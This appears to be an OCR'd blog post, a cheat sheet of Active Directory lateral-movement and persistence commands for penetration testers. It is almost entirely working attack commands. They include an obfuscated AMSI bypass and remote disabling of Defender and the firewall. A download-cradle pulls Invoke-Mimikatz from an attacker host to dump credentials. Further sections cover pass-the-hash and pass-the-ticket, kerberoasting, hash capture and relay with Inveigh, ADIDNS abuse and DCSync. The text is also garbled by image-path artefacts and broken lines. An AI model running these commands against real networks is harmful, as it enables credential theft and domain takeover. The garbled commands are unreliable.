Active Directory PenTest Cheat Sheet - Lateral Movement & Persistence Techniques
2021-05-15 00:43:00 Author:查看原文) 阅读量:2673 收藏

Hello Readers, Welcome to Hacking Dream. Today' post is on Active directory Penetration testing, this is a continuation of ACTIVE DIRECTORY PENETRATION TESTING CHEAT SHEET - RECON & INITIAL ACCESS and this post covers most of the important lateral movement and persistence techniques required while Penetration testing an enterprise active directory network. This is just my AD techniques and commands cheat sheet which I tested personally – below commands might not work in all the cases, it might require some pre-requisites.

Use the commands at your own Risk - I would suggest not to test these techniques in Production Environment.



Bypassing JEA
#View all the commands that we haveaccess to
get-command *

#View the source code of the Commands/cmdlets
Get-Command -ShowCommandInfo -Name CmdLet_NAME Get-Command -ShowCommandInfo -Name Get-ChildItem

#using SharpMapExec to bypass JEA or find interesting items
|.\SharpMapExec.exe ntlm winrm /user:USERNAME/password:"p@ssw0RD!" /domain:steins.local /computername:

Note: ExpandString & Invoke-Expression might be vulnerable to command execution#Examples of Bypasing JEA
get-something -command 'Hello $([void] (Get-Item C:\))'
get-something -command '$(""; ipconfig)'

#If Full language mode is enabled

function test() {whoami};test

#Bypassing JEA if start-Process is accessible
Enter-PSSession -ComputerName <Name> -ConfigurationName <Name>
Start-Process cmd.exe revshell.exePowershell Remote Access Enable-PSRemoting  #uses TCP - Port 5985, 5986 for SSL.

#Start a PS Session
Enter-PSSession -ComputerName kurisu.steins.local

#after logging into the session, store the process

#To login to the previous session,

#Start a new session & saves the session
$sess = New-PSSession -ComputerName kurisu.steins.local

#check the session

#login to the prev session; as long as we do not kill it

Enter-PSSession -Session $sess


$SecPassword = ConvertTo-SecureString 'PASSWORD@!'-AsPlainText -Force
$Cred = New-Object System.Management.Automation.PSCredential('Steins.local\Bhanu_Admin', $SecPassword)

$s = New-PSSession -Credential $Cred
Enter-PSSession -Session $s

#login with the connection URL
Enter-PSSession -ConnectionUri -Credential $cred

#Add a machine to TrustedHosts
net start winrm
Set-Item WSMan:\localhost\Client\TrustedHosts -Value ""

#logging into a server

Set-Item WSMan:\localhost\Client\TrustedHosts -Value ""
$SecPassword = ConvertTo-SecureString 'Password' -AsPlainText -Force
$Cred = New-ObjectSystem.Management.Automation.PSCredential('steins.local\USER', $SecPassword)
$sess=New-PSSession -ComputerName -Credential $Cred -Authentication Negotiate
Enter-PSSession -Session $sess

#Copying files to a logged in session using powershell
Copy-Item -ToSession $Sess -path C:\mimikatz.exe -Destination c:\temp

One-to-Many - PSSession:
- Executes commands parallely
- non-interactive
- Invoke-Command #cmdlet used to implent one to many- can run scripts
- can use -Credential parameter to pass alternate creds

#Execute Scripts on a different machine:

Invoke-Command -ComputerName CruelSun -ScriptBlock{whoami;hostnane}

#Execute Scripts on a list of severs
Invoke-Command -ComputerName (Get-Content servers.txt) -ScriptBlock{whoami;hostnane}

#Run a file/command from a specific location
Invoke-Command -ComputerName CruelSun-Filepath C:\downloads\powerup.ps1

#If powershell is running in constraint language mode, we cannot run some cmdlets,etc..cannot use .Net classes as well. if the server is running with constrained lang mode, we cannot run .net classes and some other suspicious functions

#if you are unable to run the script - check the language:
Invoke-Command -ComputerName (Get-Content servers.txt) -ScriptBlock{$ExecutionContext.SessionState.LanguageMode}

#Run local function on a remote machine:
Invoke-Command -ComputerName CruelSun -ScriptBlock ${function:Get-ADTrust -Identity steins.local}

Invoke-Command -Filepath C:\scripts\Get-PassHashes.ps1 -ComputerName (Get-Content servers.txt)

Invoke-Command -ComputerName CruelSun -ScriptBlock ${function:Get-PassHashes} - ComputerName (Get-Content servers.txt )

#Run local script on a session:
#Run powerview.ps1 into the memory of the session
Invoke-Command -Filepath C:\downloads\powerup.ps1 -Session $sess

#powerup.ps1 functions will be loaded on the target session, so, we can run it directly

Enter-PSSession -Session $sess

Execute Stateful commands using Invoke-Command:

$sess = New-PSSession -ComputerName CruelSun
Invoke-Command -Session $sess -ScriptBlock {$Proc = Get-Process}
Invoke-Command -Session $sess-ScriptBlock {$Proc.Name}

Disable AV on a Target Machine and upload a file

#Create a session
$sess = New-PSsession -ComputerName Server1

#Disable AV and Firewall
Invoke-Command -ScriptBlock{Set-MpPreference -DisableRealtimeMonitoring $true} -Session $sess
Invoke-Command -ScriptBlock{Set-MpPreference -DisableIOAVProtection $true} -Session $sess
Invoke-Command -ScriptBlock{netsh advfirewall set allprofiles state off} -Session $sess

#upload a file
Invoke-Command -Sessoion $sess -FilePath C:\Invoke-Mimikatz.ps1

#login to the session

Enter-PSsession $sess

#Bypass AMSI
SET-ItEM ( 'V'+'aR' + 'IA' + 'blE:1q2' + 'uZx' ) ( [TYpE]( "{1}{0}"-F'F','rE' ) ) ; ( GeT-VariaBle ( "1Q2U" +"zX" ) -VaL )."A`ss`Embly"."GET`TY`Pe"(( "{6}{3}{1}{4}{2}{0}{5}" -f'Util','A','Amsi','.Management.','utomation.','s','System' ) )."g`etf`iElD"( ( "{0}{2}{1}" -f'amsi','d','InitFaile' ),( "{2}{4}{0}{1}{3}" -f 'Stat','i','NonPubli','c','c,' ))."sE`T`VaLUE"( ${n`ULl},${t`RuE} )

Converting Plain Text into RC4/NTLM hash

>>> import hashlib
>>> print('md4', 'Password123'.encode('utf-16le')).hexdigest())

OverPass The Hash

sekurlsa::pth /user:USERNAME /domain:steins.local /rc4:58a478135a93ac3bf058a5e354fdb71 /run:powershell.exe

#Run commands as the user that used for PTH

Invoke-Command -ComputerName Server1.steins.local -ScriptBlock{whoami; whoami /groups; hostname}

#Create a session
$sess = New-PSsession -ComputerName Server1

#Disable AV and Firewall
Invoke-Command -ScriptBlock{Set-MpPreference -DisableRealtimeMonitoring $true} -Session $sess
Invoke-Command -ScriptBlock{Set-MpPreference -DisableIOAVProtection $true} -Session $sess
Invoke-Command -ScriptBlock{netsh advfirewall setallprofiles state off} -Session $sess

#login to the session
Enter-PSsession $sess

#Dump Creds from the target machine
IEX(New-Object Net.WebClient).downloadString('http://KALI_IP:8000/Invoke-Mimikatz.ps1'); Invoke-Mimikatz -Command privilege::debug; Invoke-Mimikatz -DumpCreds;

Pass the Ticket


#Tickets are exported to present working directory
#Download all the tickets
sekurlsa::tickets /export
kerberos::ptt ticket.kerbi


invoke-module .\Invoke-Mimikatz.ps1
invoke-mimikatz -Command '"Mimikatz::debug" "sekurlsa:;tickets /export" "exit"'
invoke-mimikatz -Command '"Mimikatz::debug" "kerberos::ptt ticket.kerbi" "exit"'#list the available tickets


#Triage the available tickets
.\Rubeus.exe triage

#display all the available tickets, copy the base64 ticket and remove all spaces and save it as .kirbo file. it can be used to ptt
.\Rubeus.exe dump

#pass a ticket
.\Rubeus.exe ptt /ticket:BASE64_KERBEROS_TICKET.kirbi.\Rubeus.exe kerberoast /domain:steins.local /user:User1 /format:hashcat /outfile:hash.txt#AskTGT
Rubeus.exe asktgt /user:server$ /enctype:RC4 /rc4:da71cba0f3b7a64d4318bd52c5ed4237 /domain:steins.local /dc:dc.steins.local /ptt

#Impersonate as a user

Rubeus.exe s4u /ticket:srv1_tgt /impersonateuser:Administrator /outfile:TGS_administrator

#Create TGS and import into memory
Rubeus.exe s4u /impersonateuser:administrator /self /ptt /dc:dc.steins.local /ticket:srv_tgt /altservice:cifs/srv.steins.local /domain:steins.local

Mimikatz:#Dump Credentials on a local machine using Mimikatz
Invoke-Mimikatz -DumpCreds

#Dump creds of a target machine/ DC creds:
Invoke-Mimikatz -Command '"lsadump::lsa /patch"' -ComputerName steinsDC.steins.local

#Dump Creds on Multiple Remote Machines:
Invoke-Mimikatz -DumpCreds -ComputerName @("ststem1.steins.local","system2.steins.local")

#Over Pass the hash - Generate Tokens from Hashes: Writing to lsass.exe
Invoke-Mimikatz -Command '"sekurlsa:pth /user:Administrator /domain:steins.local /ntlm:<NTLM_HASH> /run:powershell.exe"'

sekurlsa::pth /user:Username /domain:steins.local /rc4:97179aeefd6f3a6d329c37184fc639afAbusing PrinterBug

#find machines withunconstrained Delegation enabled
Get-ADComputer -Filter {TrustedForDelegation -ewq $True}

#Compromise and login to the machine with unconstrained Delegation enabled
Invoke-Mimikatz -Command '"sekurlsa::pth /user:USERNAME /domain:steins.local /rc4:58a478135a93ac3bf058a5e354fdb71 /run:powershell.exe"'

#Run SampleSpool.exe on the unconstrianed degelation enabled machine



proxychains python3 steins.local/[email protected] KALI_IP -hashes ':31d6cfe0d16ae931b73c59d7e0c089c0'

sudo proxychains -t smb:// -smb2support

#Relay attacks - Capturing SMB hashes

Import-Module .\Inveigh.ps1

#Startcollecting hashes, we will see hashes whenever a user tries to access something non-existant via SMB
Invoke-Inveigh -ConsoleOutput Y

#cracking the hashes captured from inveigh
hashcat -m 5600 hash rockyou.txt --force -r /usr/share/hashcat/rules/d3ad0ne.rule

Abusing ADIDNS

Import-module .\Invoke-DNSUpdate.ps1
Powershell Invoke-DNSupdate -DNSType A -DNSName test -DNSData -Verbose

Import-module .\Powermad.ps1
PowerShell New-ADIDNSNode -Node * -Tombstone -Verbose
Powershell Grant-ADIDNSPermission -Node * -Principal "Authenticated Users" -Access GenericAll -Verbose#Capture all the users hashes
Import-module .\Inveigh.ps1
Invoke-Inveigh -ConsoleOutput Y -adidns combo
Invoke-Inveigh -ConsoleOutput Y -DNS Y

#Relaying the hashes for command execution
Import-module .\InveighRelay.ps1
invoke-inveighrelay -ConsoleOutput Y -Target -ShowHelp N -StatusOutput N -Command "powershell.exe -c iex(new-object'')"

DCSync Attack

- Usually Members of the Administrators, Domain Admins, Enterprise Admins, and Domain Controllers groups have theseprivileges by default

Import-Module ./Powerview.ps1 #Select the domain to attack

#Get the object ACL matching ObjectAceType = DS-Replication for the pentesting.local forest & check if any of the user to whom we have acess to has dcsync privs
Get-ObjectACL "DC=steins,DC=local" -ResolveGUIDs | ? { ($_.ObjectAceType -like 'DS-Replication*')

